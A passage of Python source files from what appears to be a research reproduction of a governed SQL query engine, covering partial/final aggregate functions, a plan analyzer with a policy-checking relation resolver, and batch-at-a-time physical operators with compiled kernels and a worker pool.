            for rule in self._rules:
                current = rule.apply(current)
            if current.explain() == before:
                break
        return self._fusion.apply(current)
