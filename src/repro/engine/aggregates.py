"""Aggregate functions with a partial/final split.

The split matters for eFGAC (§3.4): the optimizer pushes *partial*
aggregations into the remote scan executed by Serverless Spark, and the
origin cluster runs the *final* merge — so aggregate states, not raw rows,
cross the wire.

Each function is defined by four steps over opaque state objects::

    state = create()            # identity
    state = update(state, v)    # fold one non-NULL input value
    state = merge(a, b)         # combine two partial states
    value = final(state)        # produce the SQL result
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable

from repro.engine.expressions import Expression
from repro.engine.types import FLOAT, INT, DataType
from repro.errors import AnalysisError


@dataclass(frozen=True)
class AggregateFunction:
    """One aggregate's algebra plus its result-type rule."""

    name: str
    create: Callable[[], Any]
    update: Callable[[Any, Any], Any]
    merge: Callable[[Any, Any], Any]
    final: Callable[[Any], Any]
    result_type: Callable[[DataType | None], DataType]
    #: COUNT counts rows even when the input expression is NULL.
    ignores_nulls: bool = True


def _avg_final(state: tuple[float, int]) -> float | None:
    total, count = state
    return total / count if count else None


AGGREGATE_FUNCTIONS: dict[str, AggregateFunction] = {
    "count": AggregateFunction(
        name="count",
        create=lambda: 0,
        update=lambda s, v: s + 1,
        merge=lambda a, b: a + b,
        final=lambda s: s,
        result_type=lambda t: INT,
    ),
    "sum": AggregateFunction(
        name="sum",
        create=lambda: None,
        update=lambda s, v: v if s is None else s + v,
        merge=lambda a, b: b if a is None else (a if b is None else a + b),
        final=lambda s: s,
        result_type=lambda t: t or FLOAT,
    ),
    "min": AggregateFunction(
        name="min",
        create=lambda: None,
        update=lambda s, v: v if s is None else min(s, v),
        merge=lambda a, b: b if a is None else (a if b is None else min(a, b)),
        final=lambda s: s,
        result_type=lambda t: t or FLOAT,
    ),
    "max": AggregateFunction(
        name="max",
        create=lambda: None,
        update=lambda s, v: v if s is None else max(s, v),
        merge=lambda a, b: b if a is None else (a if b is None else max(a, b)),
        final=lambda s: s,
        result_type=lambda t: t or FLOAT,
    ),
    "avg": AggregateFunction(
        name="avg",
        create=lambda: (0.0, 0),
        update=lambda s, v: (s[0] + v, s[1] + 1),
        merge=lambda a, b: (a[0] + b[0], a[1] + b[1]),
        final=_avg_final,
        result_type=lambda t: FLOAT,
    ),
    "count_distinct": AggregateFunction(
        name="count_distinct",
        create=frozenset,
        update=lambda s, v: s | {v},
        merge=lambda a, b: a | b,
        final=len,
        result_type=lambda t: INT,
    ),
}


class AggregateCall(Expression):
    """One aggregate invocation in an Aggregate plan node.

    ``child`` may be ``None`` for ``COUNT(*)``. This expression never
    evaluates row-wise; the hash-aggregate operator interprets it.
    """

    def __init__(
        self,
        func_name: str,
        child: Expression | None,
        distinct: bool = False,
    ):
        lowered = func_name.lower()
        if distinct and lowered == "count":
            lowered = "count_distinct"
        if lowered not in AGGREGATE_FUNCTIONS:
            raise AnalysisError(
                f"unknown aggregate '{func_name}'; "
                f"supported: {sorted(AGGREGATE_FUNCTIONS)}"
            )
        super().__init__((child,) if child is not None else ())
        self.func_name = lowered
        self.distinct = distinct
        self._bind_type()

    def _bind_type(self) -> None:
        func = AGGREGATE_FUNCTIONS[self.func_name]
        child_type = self.children[0].dtype if self.children else None
        if not self.children or child_type is not None:
            self.dtype = func.result_type(child_type)

    @property
    def func(self) -> AggregateFunction:
        return AGGREGATE_FUNCTIONS[self.func_name]

    @property
    def child(self) -> Expression | None:
        return self.children[0] if self.children else None

    def with_children(self, children):
        return AggregateCall(self.func_name, children[0] if children else None,
                             distinct=self.distinct)

    def eval(self, batch, ctx):
        raise AnalysisError(
            f"aggregate '{self.func_name}' used outside GROUP BY context"
        )

    def output_name(self) -> str:
        arg = self.child.output_name() if self.child is not None else "*"
        prefix = "count" if self.func_name == "count_distinct" else self.func_name
        inner = f"DISTINCT {arg}" if self.distinct else arg
        return f"{prefix}({inner})"

    def __str__(self):
        return self.output_name()


def is_aggregate_expression(expr: Expression) -> bool:
    """True if the tree contains any AggregateCall."""
    return any(isinstance(node, AggregateCall) for node in expr.walk())
