"""Plan analysis: relation resolution, star expansion, expression binding.

The analyzer is the enforcement point Lakeguard hooks: it resolves relation
*names* through a :class:`RelationResolver`, and in Lakeguard that resolver is
the catalog — which checks privileges, expands view text, and injects
row-filter / column-mask plans wrapped in ``SecureView`` before the engine
ever sees the data (§3.4). The engine itself stays policy-agnostic.
"""

from __future__ import annotations

from typing import Protocol

from repro.engine.aggregates import AggregateCall, is_aggregate_expression
from repro.engine.expressions import (
    BoundRef,
    Expression,
    SortOrder,
    Star,
    UnresolvedColumn,
    bind_expression,
)
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Join,
    Limit,
    LocalRelation,
    LogicalPlan,
    Project,
    Range,
    RemoteScan,
    Scan,
    SecureView,
    Sort,
    SubqueryAlias,
    Union,
    UnresolvedRelation,
)
from repro.engine.types import BOOL, Schema
from repro.errors import AnalysisError

#: Guard against infinitely recursive view definitions.
MAX_RESOLUTION_DEPTH = 32


class RelationResolver(Protocol):
    """Maps a relation name (plus read options) to a logical plan.

    Implementations are free to return plans containing further unresolved
    relations (e.g. a view body referencing tables); the analyzer recurses.
    Governance implementations raise :class:`~repro.errors.PermissionDenied`
    here — *before* any data access.
    """

    def resolve_relation(
        self, name: str, options: dict | None = None
    ) -> LogicalPlan: ...


class DictResolver:
    """Simple resolver backed by a name → plan mapping (tests, local data)."""

    def __init__(self, relations: dict[str, LogicalPlan] | None = None):
        self._relations = dict(relations or {})

    def register(self, name: str, plan: LogicalPlan) -> None:
        self._relations[name] = plan

    def resolve_relation(self, name: str, options: dict | None = None) -> LogicalPlan:
        try:
            return self._relations[name]
        except KeyError:
            raise AnalysisError(f"table or view not found: '{name}'") from None


class Analyzer:
    """Turns an unresolved plan into a fully bound, type-checked plan."""

    def __init__(self, resolver: RelationResolver):
        self._resolver = resolver

    # -- public ----------------------------------------------------------------

    def analyze(self, plan: LogicalPlan) -> LogicalPlan:
        analyzed = self._analyze(plan, depth=0)
        self._check(analyzed)
        return analyzed

    # -- recursion ----------------------------------------------------------------

    def _analyze(self, plan: LogicalPlan, depth: int) -> LogicalPlan:
        if depth > MAX_RESOLUTION_DEPTH:
            raise AnalysisError(
                "maximum view resolution depth exceeded (recursive view?)"
            )

        if isinstance(plan, UnresolvedRelation):
            resolved = self._resolver.resolve_relation(plan.name, plan.options)
            return self._analyze(resolved, depth + 1)

        # Leaves that are already resolved.
        if isinstance(plan, (LocalRelation, Scan, Range, RemoteScan)):
            return plan

        children = [self._analyze(c, depth) for c in plan.children]

        if isinstance(plan, Project):
            return self._analyze_project(plan, children[0])
        if isinstance(plan, Filter):
            return self._analyze_filter(plan, children[0])
        if isinstance(plan, Aggregate):
            return self._analyze_aggregate(plan, children[0])
        if isinstance(plan, Join):
            return self._analyze_join(plan, children)
        if isinstance(plan, Sort):
            return self._analyze_sort(plan, children[0])
        if isinstance(plan, Union):
            return self._analyze_union(plan, children)
        if isinstance(plan, (Limit, Distinct, SubqueryAlias, SecureView)):
            return plan.with_children(children)

        raise AnalysisError(f"analyzer does not know node {type(plan).__name__}")

    # -- per-node rules -----------------------------------------------------------

    def _analyze_project(self, plan: Project, child: LogicalPlan) -> Project:
        schema = child.schema
        exprs: list[Expression] = []
        for expr in plan.exprs:
            if isinstance(expr, Star):
                exprs.extend(self._expand_star(expr, schema))
            else:
                exprs.append(bind_expression(expr, schema))
        for expr in exprs:
            if is_aggregate_expression(expr):
                raise AnalysisError(
                    f"aggregate '{expr}' requires a GROUP BY (use Aggregate node)"
                )
        return Project(child, exprs)

    @staticmethod
    def _expand_star(star: Star, schema: Schema) -> list[Expression]:
        refs = [
            BoundRef(i, f.name, f.dtype)
            for i, f in enumerate(schema)
            if star.qualifier is None or f.qualifier == star.qualifier
        ]
        if not refs:
            raise AnalysisError(f"star '{star}' matched no columns in {schema}")
        return refs

    def _analyze_sort(self, plan: Sort, child: LogicalPlan) -> LogicalPlan:
        """Bind ORDER BY against the output; fall back below a Project.

        ``SELECT region FROM t ORDER BY id`` sorts by a column the
        projection dropped. Projections are row-wise, so sorting the
        projection's *input* and projecting afterwards is equivalent —
        the same resolution rule Spark applies.
        """
        try:
            orders = [
                SortOrder(
                    bind_expression(o.expr, child.schema), o.ascending, o.nulls_first
                )
                for o in plan.orders
            ]
            return Sort(child, orders)
        except AnalysisError:
            if not isinstance(child, Project):
                raise
        project = child
        orders = [
            SortOrder(
                bind_expression(o.expr, project.child.schema),
                o.ascending,
                o.nulls_first,
            )
            for o in plan.orders
        ]
        return Project(Sort(project.child, orders), project.exprs)

    def _analyze_filter(self, plan: Filter, child: LogicalPlan) -> Filter:
        condition = bind_expression(plan.condition, child.schema)
        if condition.dtype != BOOL:
            raise AnalysisError(
                f"filter condition must be boolean, got {condition.dtype}: "
                f"{condition}"
            )
        if is_aggregate_expression(condition):
            raise AnalysisError("aggregates are not allowed in WHERE (use HAVING)")
        return Filter(child, condition)

    def _analyze_aggregate(self, plan: Aggregate, child: LogicalPlan) -> Aggregate:
        schema = child.schema
        groupings = [bind_expression(g, schema) for g in plan.groupings]
        aggregates = [bind_expression(a, schema) for a in plan.aggregates]

        grouping_refs: set[int] = set()
        for g in groupings:
            grouping_refs |= g.references()

        for agg_expr in aggregates:
            self._check_aggregate_expr(agg_expr, grouping_refs)
        return Aggregate(child, groupings, aggregates, plan.mode)

    def _check_aggregate_expr(self, expr: Expression, grouping_refs: set[int]) -> None:
        """Column refs outside aggregate calls must be grouped."""
        if isinstance(expr, AggregateCall):
            return  # everything under an aggregate call is fine
        if isinstance(expr, BoundRef) and expr.index not in grouping_refs:
            raise AnalysisError(
                f"column '{expr.name}' must appear in GROUP BY or inside an "
                "aggregate function"
            )
        for child in expr.children:
            self._check_aggregate_expr(child, grouping_refs)

    def _analyze_join(self, plan: Join, children: list[LogicalPlan]) -> Join:
        left, right = children
        if plan.condition is None:
            return Join(left, right, plan.how, None)
        combined = left.schema.concat(right.schema)
        condition = bind_expression(plan.condition, combined)
        if condition.dtype != BOOL:
            raise AnalysisError(
                f"join condition must be boolean, got {condition.dtype}"
            )
        return Join(left, right, plan.how, condition)

    @staticmethod
    def _analyze_union(plan: Union, children: list[LogicalPlan]) -> Union:
        arity = len(children[0].schema)
        for child in children[1:]:
            if len(child.schema) != arity:
                raise AnalysisError(
                    f"UNION inputs have different column counts: "
                    f"{arity} vs {len(child.schema)}"
                )
        return Union(children)

    # -- final validation -----------------------------------------------------------

    @staticmethod
    def _check(plan: LogicalPlan) -> None:
        for node in plan.walk():
            for expr in node.expressions():
                for e in expr.walk():
                    if isinstance(e, (UnresolvedColumn, Star)):
                        raise AnalysisError(
                            f"unresolved expression '{e}' survived analysis in "
                            f"{node._node_label()}"
                        )
        if not plan.resolved:
            raise AnalysisError("plan is not fully resolved after analysis")
        # Force schema computation everywhere: surfaces latent type errors.
        for node in plan.walk():
            _ = node.schema
