"""Physical operators: columnar, batch-at-a-time execution.

The governance hooks at this layer:

- :class:`PhysScan` pulls batches from a :class:`DataSource`; Lakeguard's
  governed data source fetches per-user temporary credentials before touching
  storage, so executor-side access is always identity-bound.
- :class:`PhysProject` executes fused Python-UDF groups through the context's
  ``UDFRuntime`` — one sandbox round-trip per fusion group per batch.
- :class:`PhysRemoteScan` delegates an eFGAC sub-plan to a remote endpoint.

Expression-heavy operators (filter, project, sort keys, join keys, aggregate
accumulation) accept an optional compiled kernel from
:mod:`repro.engine.compile`; when present it replaces interpreted tree
walking with one generated loop per batch. Kernels are produced at plan
time, so a compile failure simply leaves the interpreter path in place.
"""

from __future__ import annotations

import threading
from contextlib import nullcontext
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Protocol, Sequence

from repro.common.context import span_or_null
from repro.engine.aggregates import AggregateCall
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.compile import (
    CompiledKernels,
    CompiledPipeline,
    KernelCompiler,
    PipelineSpec,
    has_opaque_nodes,
)
from repro.engine.expressions import (
    BooleanOp,
    BoundRef,
    EvalContext,
    Expression,
    Literal,
    PythonUDFCall,
    SortOrder,
)
from repro.engine.optimizer import inline_through_projection
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Join,
    Limit,
    LocalRelation,
    LogicalPlan,
    Project,
    Range,
    RemoteScan,
    Scan,
    SecureView,
    Sort,
    SubqueryAlias,
    TableRef,
    Union,
)
from repro.engine.types import STRING, Field, Schema
from repro.errors import ExecutionError, UnsupportedOperationError

DEFAULT_BATCH_SIZE = 4096


class DataSource(Protocol):
    """Provides full-schema batches for a governed table."""

    def scan(self, table: TableRef, eval_ctx: EvalContext) -> Iterator[ColumnBatch]: ...


@dataclass
class QueryMetrics:
    """Execution counters surfaced to benchmarks."""

    rows_scanned: int = 0
    rows_output: int = 0
    batches_output: int = 0
    sandbox_round_trips: int = 0
    remote_subqueries: int = 0
    remote_rows_received: int = 0

    def merge_from(self, other: "QueryMetrics") -> None:
        """Fold a forked subtree's counters back into this context's."""
        self.rows_scanned += other.rows_scanned
        self.rows_output += other.rows_output
        self.batches_output += other.batches_output
        self.sandbox_round_trips += other.sandbox_round_trips
        self.remote_subqueries += other.remote_subqueries
        self.remote_rows_received += other.remote_rows_received


@dataclass
class ExecContext:
    """Everything an operator tree needs at run time."""

    eval_ctx: EvalContext
    data_source: DataSource | None = None
    remote_executor: Callable[[RemoteScan, EvalContext], Iterator[ColumnBatch]] | None = None
    batch_size: int = DEFAULT_BATCH_SIZE
    metrics: QueryMetrics = field(default_factory=QueryMetrics)
    #: Materialize independent child subtrees (join/union inputs) on threads.
    parallel_children: bool = False
    #: Process-backend :class:`~repro.engine.workers.WorkerPool`; when set,
    #: compiled-kernel operators and governed scans route their per-batch
    #: work through worker processes (None = thread backend).
    worker_pool: Any = None

    def fork(self) -> "ExecContext":
        """An isolated context for running one subtree on its own thread.

        The fork gets fresh metrics (merged back via ``merge_from``), a fresh
        ``udf_results`` memo, and — because contextvars do not propagate to
        worker threads — an explicit child :class:`QueryContext` created
        *now*, so the subtree's spans parent onto the query's current span
        and keep its trace id.
        """
        eval_ctx = self.eval_ctx
        qctx = eval_ctx.query_ctx
        forked_eval = EvalContext(
            user=eval_ctx.user,
            groups=eval_ctx.groups,
            udf_runtime=eval_ctx.udf_runtime,
            auth=eval_ctx.auth,
            query_ctx=qctx.child() if qctx is not None else None,
            batch_size=eval_ctx.batch_size,
        )
        return ExecContext(
            eval_ctx=forked_eval,
            data_source=self.data_source,
            remote_executor=self.remote_executor,
            batch_size=self.batch_size,
            parallel_children=self.parallel_children,
            worker_pool=self.worker_pool,
        )


def collect_children_parallel(
    ctx: ExecContext, children: Sequence["PhysicalOperator"]
) -> list[ColumnBatch]:
    """Materialize independent subtrees, concurrently when enabled.

    Each child runs on an ephemeral thread with a forked context (fresh
    metrics/UDF memo, explicit child QueryContext); ephemeral threads rather
    than a shared pool so a subtree that itself fans out scan tasks can never
    deadlock against its own parent's worker slots. Results come back in
    child order and forked metrics are merged deterministically.
    """
    if not ctx.parallel_children or len(children) < 2:
        return [
            ColumnBatch.concat(child.schema, list(child.execute(ctx)))
            for child in children
        ]
    forked = [ctx.fork() for _ in children]
    results: list[ColumnBatch | None] = [None] * len(children)
    errors: list[BaseException | None] = [None] * len(children)

    def run(index: int, child: "PhysicalOperator", fctx: ExecContext) -> None:
        try:
            results[index] = ColumnBatch.concat(
                child.schema, list(child.execute(fctx))
            )
        except BaseException as exc:  # noqa: BLE001 - reraised on the caller
            errors[index] = exc

    threads = [
        threading.Thread(
            target=run,
            args=(i, child, fctx),
            name=f"exec-child-{i}",
            daemon=True,
        )
        for i, (child, fctx) in enumerate(zip(children, forked))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for fctx in forked:
        ctx.metrics.merge_from(fctx.metrics)
    for error in errors:
        if error is not None:
            raise error
    return [batch for batch in results if batch is not None]


class PhysicalOperator:
    """Base physical operator."""

    def __init__(self, schema: Schema, children: tuple["PhysicalOperator", ...] = ()):
        self.schema = schema
        self.children = children

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        """Produce this operator's output as a stream of column batches."""
        raise NotImplementedError(type(self).__name__)

    def collect(self, ctx: ExecContext) -> ColumnBatch:
        batches = list(self.execute(ctx))
        result = ColumnBatch.concat(self.schema, batches)
        ctx.metrics.rows_output += result.num_rows
        ctx.metrics.batches_output += len(batches)
        return result


# ---------------------------------------------------------------------------
# Leaves
# ---------------------------------------------------------------------------


class PhysLocalData(PhysicalOperator):
    """Client-supplied in-memory data, re-chunked to the batch size."""

    def __init__(self, schema: Schema, columns: list[list[Any]]):
        super().__init__(schema)
        self._columns = columns

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        full = ColumnBatch(self.schema, self._columns)
        for start in range(0, max(full.num_rows, 1), ctx.batch_size):
            chunk = full.slice(start, start + ctx.batch_size)
            if chunk.num_rows or start == 0:
                yield chunk


class PhysRange(PhysicalOperator):
    """Generated integer sequence (``spark.range``)."""

    def __init__(self, node: Range):
        super().__init__(node.schema)
        self._node = node

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        values = list(range(self._node.start, self._node.end, self._node.step))
        for start in range(0, max(len(values), 1), ctx.batch_size):
            yield ColumnBatch(self.schema, [values[start : start + ctx.batch_size]])


class PhysScan(PhysicalOperator):
    """Governed table scan: full-object read, then pushed filters, then prune.

    The read-then-filter order is deliberate and mirrors Fig. 3: cloud
    storage is object-granular, so the engine must ingest all bytes before
    policy or predicate evaluation can drop anything.
    """

    def __init__(self, node: Scan):
        super().__init__(node.schema)
        self._node = node

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        if ctx.data_source is None:
            raise ExecutionError(
                f"no data source configured; cannot scan {self._node.table.full_name}"
            )
        pooled = self.pooled_scan(ctx)
        if pooled is not None:
            yield from pooled
            return
        for batch in ctx.data_source.scan(self._node.table, ctx.eval_ctx):
            ctx.metrics.rows_scanned += batch.num_rows
            for predicate in self._node.pushed_filters:
                if batch.num_rows == 0:
                    break
                batch = batch.filter(predicate.eval(batch, ctx.eval_ctx))
            if self._node.required_columns is not None:
                batch = batch.select_indices(list(self._node.required_columns))
            yield batch

    def pooled_scan(
        self,
        ctx: ExecContext,
        fused_kernel: CompiledKernels | CompiledPipeline | None = None,
        fused_exprs: tuple[Expression, ...] | PipelineSpec | None = None,
        out_schema: Schema | None = None,
        kernel_mode: str = "filter-project",
    ) -> Iterator[ColumnBatch] | None:
        """Process-backend scan: pushed filters (and an optional fused
        filter→project kernel or whole aggregation pipeline, selected by
        ``kernel_mode``) run inside worker processes.

        Returns ``None`` — falling back to the thread path — when no pool is
        active, the data source has no pipeline support, or a pushed filter
        contains user code (user code only runs inside the UDF sandbox,
        never in engine workers).
        """
        pool = ctx.worker_pool
        source = ctx.data_source
        if pool is None or not hasattr(source, "scan_pipeline"):
            return None
        node = self._node
        for predicate in node.pushed_filters:
            if any(n.is_user_code for n in predicate.walk()):
                return None
        spec = {
            "pushed_filters": tuple(node.pushed_filters),
            "required_columns": (
                list(node.required_columns)
                if node.required_columns is not None
                else None
            ),
            "kernel": fused_kernel,
            "exprs": fused_exprs,
            "kernel_mode": kernel_mode,
            "out_schema": out_schema if out_schema is not None else self.schema,
        }

        def on_rows(rows_in: int) -> None:
            ctx.metrics.rows_scanned += rows_in

        return source.scan_pipeline(node.table, ctx.eval_ctx, spec, pool, on_rows)


class PhysRemoteScan(PhysicalOperator):
    """Submit the eFGAC sub-plan to the remote endpoint and stream results."""

    def __init__(self, node: RemoteScan):
        super().__init__(node.schema)
        self._node = node

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        if ctx.remote_executor is None:
            raise ExecutionError(
                "plan contains a RemoteScan but no remote executor is configured "
                f"(tables: {self._node.source_tables})"
            )
        ctx.metrics.remote_subqueries += 1
        for batch in ctx.remote_executor(self._node, ctx.eval_ctx):
            ctx.metrics.remote_rows_received += batch.num_rows
            yield batch


# ---------------------------------------------------------------------------
# Unary operators
# ---------------------------------------------------------------------------


class PhysFilter(PhysicalOperator):
    """Row filtering with SQL semantics (NULL predicate drops the row).

    With a compiled ``kernel`` the predicate mask comes from one generated
    loop per batch instead of interpreted tree walking; the result is
    identical (the kernel is lowered from the same expression tree).
    """

    def __init__(
        self,
        child: PhysicalOperator,
        condition: Expression,
        kernel: CompiledKernels | None = None,
    ):
        super().__init__(child.schema, (child,))
        self._condition = condition
        self._kernel = kernel

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        with _kernel_span(ctx, self._kernel, "filter"):
            if _pool_kernel_eligible(ctx, self._kernel):
                yield from _pooled_kernel_stream(
                    ctx,
                    self.children[0].execute(ctx),
                    kmode="filter",
                    kernel=self._kernel,
                    exprs=(self._condition,),
                    mode="project",
                    out_schema=self.schema,
                )
                return
            for batch in self.children[0].execute(ctx):
                if batch.num_rows == 0:
                    yield batch
                    continue
                if self._kernel is not None:
                    mask = self._kernel.eval_all(batch, ctx.eval_ctx)[0]
                else:
                    mask = self._condition.eval(batch, ctx.eval_ctx)
                yield batch.filter(mask)


class PhysProject(PhysicalOperator):
    """Projection with fused UDF execution.

    Per batch: every fusion group's UDF calls are shipped to the runtime in
    one invocation; results land in ``ctx.eval_ctx.udf_results`` so normal
    expression evaluation picks them up without re-running the user code.
    """

    def __init__(
        self,
        child: PhysicalOperator,
        exprs: tuple[Expression, ...],
        schema: Schema,
        kernel: CompiledKernels | None = None,
    ):
        super().__init__(schema, (child,))
        self._exprs = exprs
        self._kernel = kernel
        self._fusion_groups = self._collect_fusion_groups(exprs)

    @staticmethod
    def _collect_fusion_groups(
        exprs: tuple[Expression, ...]
    ) -> dict[int, list[PythonUDFCall]]:
        groups: dict[int, list[PythonUDFCall]] = {}
        for expr in exprs:
            for node in expr.walk():
                if isinstance(node, PythonUDFCall) and node.fusion_group is not None:
                    groups.setdefault(node.fusion_group, []).append(node)
        return groups

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        eval_ctx = ctx.eval_ctx
        with _kernel_span(ctx, self._kernel, "project"):
            if not self._fusion_groups and _pool_kernel_eligible(ctx, self._kernel):
                yield from _pooled_kernel_stream(
                    ctx,
                    self.children[0].execute(ctx),
                    kmode="project",
                    kernel=self._kernel,
                    exprs=self._exprs,
                    mode="project",
                    out_schema=self.schema,
                )
                return
            for batch in self.children[0].execute(ctx):
                eval_ctx.udf_results.clear()
                if batch.num_rows and self._fusion_groups and eval_ctx.udf_runtime:
                    self._run_fused_groups(batch, ctx)
                if self._kernel is not None:
                    # Opaque (UDF) nodes inside the kernel read the fused
                    # results planted above, exactly like interpreted eval.
                    columns = self._kernel.eval_all(batch, eval_ctx)
                else:
                    columns = [e.eval(batch, eval_ctx) for e in self._exprs]
                eval_ctx.udf_results.clear()
                yield ColumnBatch(self.schema, columns)

    def _run_fused_groups(self, batch: ColumnBatch, ctx: ExecContext) -> None:
        runtime = ctx.eval_ctx.udf_runtime
        for group_calls in self._fusion_groups.values():
            requests = []
            for call in group_calls:
                args = [c.eval(batch, ctx.eval_ctx) for c in call.children]
                requests.append((call.expr_id, call.udf, args))
            results = runtime.run_fused(requests)
            for call in group_calls:
                produced = results.get(call.expr_id)
                if produced is None or len(produced) != batch.num_rows:
                    raise ExecutionError(
                        f"UDF '{call.udf.name}' returned "
                        f"{0 if produced is None else len(produced)} values "
                        f"for {batch.num_rows} rows"
                    )
            ctx.eval_ctx.udf_results.update(results)


class PhysFilterProject(PhysicalOperator):
    """Fused filter→project running one compiled loop per batch.

    The intermediate filtered batch is never materialized: the kernel tests
    the predicate and appends the projected values row by row. The planner
    only builds this operator when the compiler accepted both the condition
    and the projection list (no user code — a pre-filter UDF invocation
    would change how often user code runs — and no unknown node types).
    """

    def __init__(
        self,
        child: PhysicalOperator,
        condition: Expression,
        exprs: tuple[Expression, ...],
        schema: Schema,
        kernel: CompiledKernels,
    ):
        super().__init__(schema, (child,))
        self._condition = condition
        self._exprs = exprs
        self._kernel = kernel

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        with _kernel_span(ctx, self._kernel, "filter-project"):
            if _pool_kernel_eligible(ctx, self._kernel):
                child = self.children[0]
                if isinstance(child, PhysScan):
                    # Fuse all the way down: the scan workers run the pushed
                    # filters AND this kernel on the same shared-memory batch.
                    pooled = child.pooled_scan(
                        ctx,
                        fused_kernel=self._kernel,
                        fused_exprs=(self._condition, *self._exprs),
                        out_schema=self.schema,
                    )
                    if pooled is not None:
                        yield from pooled
                        return
                yield from _pooled_kernel_stream(
                    ctx,
                    child.execute(ctx),
                    kmode="filter_project",
                    kernel=self._kernel,
                    exprs=(self._condition, *self._exprs),
                    mode="filter-project",
                    out_schema=self.schema,
                )
                return
            for batch in self.children[0].execute(ctx):
                yield ColumnBatch(
                    self.schema, self._kernel.eval_all(batch, ctx.eval_ctx)
                )


def _pool_kernel_eligible(ctx: ExecContext, kernel: CompiledKernels | None) -> bool:
    """A kernel can run in a worker process only when it embeds no opaque
    slots (UDFs and unknown nodes stay driver-side, next to the sandbox)."""
    return (
        ctx.worker_pool is not None
        and kernel is not None
        and not kernel.artifact.opaque_spec
    )


def _pooled_kernel_stream(
    ctx: ExecContext,
    batches: Iterator[ColumnBatch],
    kmode: str,
    kernel: CompiledKernels,
    exprs: tuple[Expression, ...],
    mode: str,
    out_schema: Schema,
) -> Iterator[ColumnBatch]:
    """Route one operator's batch stream through the worker pool.

    Keeps up to ``pool.size`` batches in flight and yields results in input
    order, so operator semantics (and downstream LIMIT early-exit) match
    the thread backend exactly. The kernel travels once per (worker,
    fingerprint) as a cloudpickled expression list; batch data travels as
    shared-memory buffers.
    """
    from collections import deque

    pool = ctx.worker_pool
    eval_ctx = ctx.eval_ctx
    qctx = eval_ctx.query_ctx
    spec = pool.kernel_spec(kernel, exprs, mode)

    def submit(batch: ColumnBatch):
        meta, payload = batch.to_buffers()
        task = {
            "op": "eval",
            "kmode": kmode,
            "schema": batch.schema,
            "meta": meta,
            "kernel": spec,
            "user": eval_ctx.user,
            "groups": tuple(eval_ctx.groups),
            "trace_id": qctx.trace_id if qctx is not None else "",
            "session_id": qctx.session_id if qctx is not None else "",
            "cluster_id": qctx.cluster_id if qctx is not None else "",
        }
        return pool.submit(task, payload, meta["pickled_bytes"], retries=2)

    def resolve(entry) -> ColumnBatch:
        kind, value = entry
        if kind == "local":
            return value
        columns, _num_rows, _info = value.result()
        return ColumnBatch(out_schema, columns)

    pending: Any = deque()
    for batch in batches:
        if batch.num_rows == 0 or batch.num_columns == 0:
            # Degenerate batches are cheaper to answer in place (and the
            # zero-column OneRowBatch shape does not survive re-encoding).
            local = batch if kmode == "filter" else ColumnBatch.empty(out_schema)
            pending.append(("local", local))
        else:
            pending.append(("future", submit(batch)))
        while len(pending) > pool.size:
            yield resolve(pending.popleft())
    while pending:
        yield resolve(pending.popleft())


def _kernel_span(ctx: ExecContext, kernel: CompiledKernels | None, operator: str):
    """An ``engine.kernel`` span spanning one operator's batch stream (no-op
    without a kernel or a traced context)."""
    if kernel is None:
        return nullcontext()
    return span_or_null(
        ctx.eval_ctx.query_ctx,
        f"kernel:{operator}",
        "engine.kernel",
        fingerprint=kernel.fingerprint[:12],
    )


class PhysLimit(PhysicalOperator):
    """LIMIT/OFFSET with early termination of the input stream."""

    def __init__(self, child: PhysicalOperator, limit: int, offset: int = 0):
        super().__init__(child.schema, (child,))
        self._limit = limit
        self._offset = offset

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        to_skip = self._offset
        remaining = self._limit
        for batch in self.children[0].execute(ctx):
            if to_skip:
                if batch.num_rows <= to_skip:
                    to_skip -= batch.num_rows
                    continue
                batch = batch.slice(to_skip, batch.num_rows)
                to_skip = 0
            if remaining <= 0:
                return
            if batch.num_rows > remaining:
                batch = batch.slice(0, remaining)
            remaining -= batch.num_rows
            yield batch
            if remaining <= 0:
                return


class PhysDistinct(PhysicalOperator):
    """Streaming duplicate elimination over full rows."""

    def __init__(self, child: PhysicalOperator):
        super().__init__(child.schema, (child,))

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        seen: set[tuple] = set()
        for batch in self.children[0].execute(ctx):
            keep = []
            for i, row in enumerate(batch.iter_rows()):
                if row not in seen:
                    seen.add(row)
                    keep.append(i)
            yield batch.take(keep)


class PhysSort(PhysicalOperator):
    """Full materializing sort with per-key direction and NULL placement.

    With ``appended_keys`` > 0 the child is a fused pipeline whose output
    carries the pre-computed sort-key columns appended after the data
    columns; the sort strips them off and orders by them directly, so key
    expressions never re-evaluate over the materialized input.
    """

    def __init__(
        self,
        child: PhysicalOperator,
        orders: tuple[SortOrder, ...],
        key_kernel: CompiledKernels | None = None,
        appended_keys: int = 0,
    ):
        schema = child.schema
        if appended_keys:
            schema = Schema(schema.fields[:-appended_keys])
        super().__init__(schema, (child,))
        self._orders = orders
        self._key_kernel = key_kernel
        self._appended_keys = appended_keys

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        full = ColumnBatch.concat(
            self.children[0].schema, list(self.children[0].execute(ctx))
        )
        key_columns: list[list[Any]] | None = None
        if self._appended_keys:
            key_columns = full.columns[-self._appended_keys:]
            full = ColumnBatch(self.schema, full.columns[: -self._appended_keys])
        if full.num_rows == 0:
            yield full
            return
        if key_columns is None:
            if self._key_kernel is not None:
                key_columns = self._key_kernel.eval_all(full, ctx.eval_ctx)
            else:
                key_columns = [
                    o.expr.eval(full, ctx.eval_ctx) for o in self._orders
                ]
        indices = list(range(full.num_rows))
        # Stable sort from the least-significant key to the most significant.
        for order, keys in reversed(list(zip(self._orders, key_columns))):
            indices.sort(
